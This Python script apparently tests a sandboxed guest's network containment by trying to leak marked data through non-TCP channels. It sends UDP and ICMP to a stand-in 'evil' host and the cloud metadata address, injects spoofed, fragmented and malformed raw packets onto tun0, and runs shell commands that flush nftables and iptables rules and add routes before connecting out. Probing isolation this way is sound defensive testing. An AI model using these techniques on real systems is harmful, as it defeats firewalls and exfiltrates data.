"""Leaves by everything that is not TCP or a question for a name. Arguments: a mark, an address of the host and a port there."""

import os
import socket
import struct
import sys

from attack import attempt, failure, get, https, raw, report, shell, tcp

MARK, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
API, EVIL = "api.test.example", "evil.test.example"
DATA = (MARK * 10).encode()
TARGETS = {
    "allowed": API,
    "denied": EVIL,
    "public": "203.0.113.9",
    "public_v6": "2001:db8::9",
    "host": HOST,
    "metadata": "169.254.169.254",
    "link_local": "fe80::1%tun0",
    "multicast": "239.1.1.1",
    "multicast_v6": "ff02::1%tun0",
    "broadcast": "255.255.255.255",
    "gateway": "100.100.100.1",
    "zero": "0.0.0.0",
}


def resolve(host, port, kind=socket.SOCK_DGRAM):
    return socket.getaddrinfo(host, port, type=kind)[0]


def datagram(host, port):
    family, kind, _, _, address = resolve(host, port)
    with socket.socket(family, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.settimeout(0.5)
        sock.connect(address)
        sock.send(DATA)
        return {"received": sock.recv(1000).decode("latin1")}


for label, host in TARGETS.items():
    for port in (PORT, 443, 123):

        def udp(host=host, port=port):
            return datagram(host, port)

        udp.__name__ = f"udp_{label}_{'quic' if port == 443 else 'ntp' if port == 123 else 'port'}"
        attempt(udp)


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data if len(data) % 2 == 0 else data + b"\0"))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


for label, host in TARGETS.items():

    def ping(host=host):
        family, _, _, _, address = resolve(host, 0)
        v6 = family == socket.AF_INET6
        head = struct.pack(">BBHHH", 128 if v6 else 8, 0, 0, 7, 1)
        packet = head[:2] + struct.pack(">H", 0 if v6 else checksum(head + DATA)) + head[4:] + DATA
        with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.settimeout(0.3)
            sock.sendto(packet, address)
            return {"received": sock.recv(1000).hex()}

    ping.__name__ = f"ping_{label}"
    attempt(ping)


def ip4(source, target, protocol, payload, flags=0, total=None, ihl=5):
    head = struct.pack(
        ">BBHHHBBH4s4s",
        (4 << 4) | ihl,
        0,
        total or 20 + len(payload),
        77,
        flags,
        64,
        protocol,
        0,
        socket.inet_aton(source),
        socket.inet_aton(target),
    )
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp_packet(payload, port):
    return struct.pack(">HHHH", 4444, port, 8 + len(payload), 0) + payload


def on_the_wire(packets):
    """Straight to the interface, past the guest's routes and rules."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as sock:
        sock.bind(("tun0", 0x0800))
        sent = 0
        for packet in packets:
            try:
                sock.sendto(packet, ("tun0", 0x86DD if packet[:1] and packet[0] >> 4 == 6 else 0x0800))
                sent += 1
            except OSError:
                pass
        return {"sent": sent}


PUBLIC = "203.0.113.9"


@attempt
def protocols_of_ip():
    return on_the_wire(
        ip4("100.100.100.2", target, protocol, DATA) for protocol in range(256) for target in (PUBLIC, HOST)
    )


@attempt
def spoofed_sources():
    sources = [
        "203.0.113.77",
        "127.0.0.1",
        "0.0.0.0",
        "255.255.255.255",
        "100.100.100.1",
        "100.100.100.3",
        HOST,
        "224.0.0.1",
    ]
    syn = struct.pack(">HHIIBBHHH", 4444, PORT, 1, 0, 5 << 4, 2, 65535, 0, 0)
    return on_the_wire(
        ip4(source, target, protocol, payload)
        for source in sources
        for target in (PUBLIC, HOST, "127.0.0.1")
        for protocol, payload in ((17, udp_packet(DATA, PORT)), (6, syn))
    )


@attempt
def fragments():
    whole = udp_packet(DATA * 20, PORT)
    packets = []
    for target in (PUBLIC, HOST):
        pieces = [whole[index : index + 64] for index in range(0, len(whole), 64)]
        packets += [
            ip4("100.100.100.2", target, 17, piece, (0x2000 if index < len(pieces) - 1 else 0) | (index * 8))
            for index, piece in enumerate(pieces)
        ]
        # Overlapping, beyond the largest packet, never complete.
        packets += [
            ip4("100.100.100.2", target, 17, pieces[0], 0x2000),
            ip4("100.100.100.2", target, 17, pieces[0], 0x2000 | 1),
            ip4("100.100.100.2", target, 17, pieces[0], 0x1FFF),
        ]
    packets += [ip4("100.100.100.2", PUBLIC, 17, b"x" * 8, 0x2000 | (index % 8000)) for index in range(5000)]
    return on_the_wire(packets)


@attempt
def broken_packets():
    good = ip4("100.100.100.2", PUBLIC, 17, udp_packet(DATA, PORT))
    packets = [
        b"",
        b"\x45",
        good[:10],
        good[:20],
        ip4("100.100.100.2", PUBLIC, 6, b""),
        ip4("100.100.100.2", PUBLIC, 6, b"\0" * 19),
        ip4("100.100.100.2", PUBLIC, 17, b"\0\0"),
        ip4("100.100.100.2", PUBLIC, 17, DATA, total=65535),
        ip4("100.100.100.2", PUBLIC, 17, DATA, ihl=15),
        ip4("100.100.100.2", PUBLIC, 17, DATA, ihl=0),
        b"\x60" + b"\0" * 39,
        b"\x60\0\0\0\xff\xff\x3a\x40" + b"\0" * 32,
        b"\x00" * 60,
        b"\xff" * 1500,
    ]
    packets += [os.urandom(20 + index % 1400) for index in range(2000)]
    packets += [b"\x45" + os.urandom(19 + index % 1400) for index in range(2000)]
    packets += [b"\x60" + os.urandom(39 + index % 1400) for index in range(2000)]

    # Extension headers of IPv6, nested.
    def v6(payload, first):
        header = struct.pack(">IHBB", 6 << 28, len(payload), first, 64)
        addresses = [socket.inet_pton(socket.AF_INET6, text) for text in ("fd64:6464:6464::2", "2001:db8::9")]
        return header + b"".join(addresses) + payload

    packets += [
        v6(b"\0\0\0\0\0\0\0\0" * 100 + udp_packet(DATA, PORT), 0),
        v6(b"\x2b\0\0\xff\0\0\0\0" + DATA, 43),
        v6(b"\x11\0\0\x01\0\0\0\7" + DATA, 44),
        v6(DATA, 59),
        v6(DATA, 58),
    ]
    return on_the_wire(packets)


@attempt
def other_transports():
    outcomes = {}
    for name, kind, protocol in (
        ("sctp", socket.SOCK_STREAM, 132),
        ("dccp", 6, 33),
        ("udplite", socket.SOCK_DGRAM, 136),
    ):
        try:
            with socket.socket(socket.AF_INET, kind, protocol) as sock:
                sock.settimeout(0.5)
                sock.connect((PUBLIC, PORT))
                sock.send(DATA)
                outcomes[name] = sock.recv(100).hex()
        except Exception as error:
            outcomes[name] = failure(error)["error"]
    return outcomes


@attempt
def rules_flushed():
    """The guest's own network settings are the guest's: without them nothing works, and nothing works better."""
    shell(
        "nft flush ruleset; iptables -F; iptables -P OUTPUT ACCEPT; sysctl -w net.ipv4.conf.all.rp_filter=0 net.ipv4.ip_forward=1; ip route add 10.0.0.0/8 dev tun0; ip route add 192.168.0.0/16 dev tun0; ip addr add 203.0.113.77/24 dev tun0; ip -6 addr add 2001:db8::77/64 dev tun0"
    )
    links = shell("ip -o link")["out"]
    try:
        with socket.socket() as sock:
            sock.settimeout(3)
            sock.bind(("203.0.113.77", 0))
            sock.connect((HOST, PORT))
            sock.sendall(DATA)
            return {"links": links, "received": sock.recv(100).hex()}
    except OSError as error:
        return {"links": links, **failure(error)}


@attempt
def devices():
    """What could lead out besides tun0."""
    return {
        "links": [name for name in os.listdir("/sys/class/net")],
        "pci": os.path.isdir("/sys/bus/pci/devices") and os.listdir("/sys/bus/pci/devices"),
        "virtio": {
            name: open(f"/sys/bus/virtio/devices/{name}/device").read().strip()
            for name in os.listdir("/sys/bus/virtio/devices")
        },
        "vsock": os.path.exists("/dev/vsock"),
    }


@attempt
def tcp_to_the_host():
    with tcp(HOST, PORT, 3) as sock:
        return raw(sock, DATA, 1)


@attempt
def still_works():
    shell(
        "ip addr del 203.0.113.77/24 dev tun0; ip -6 addr del 2001:db8::77/64 dev tun0; ip route del 10.0.0.0/8; ip route del 192.168.0.0/16"
    )
    return https(API, get(API, "/afterwards"))


report(
    threads=8,
    alone=["protocols_of_ip", "spoofed_sources", "fragments", "broken_packets", "rules_flushed", "still_works"],
)
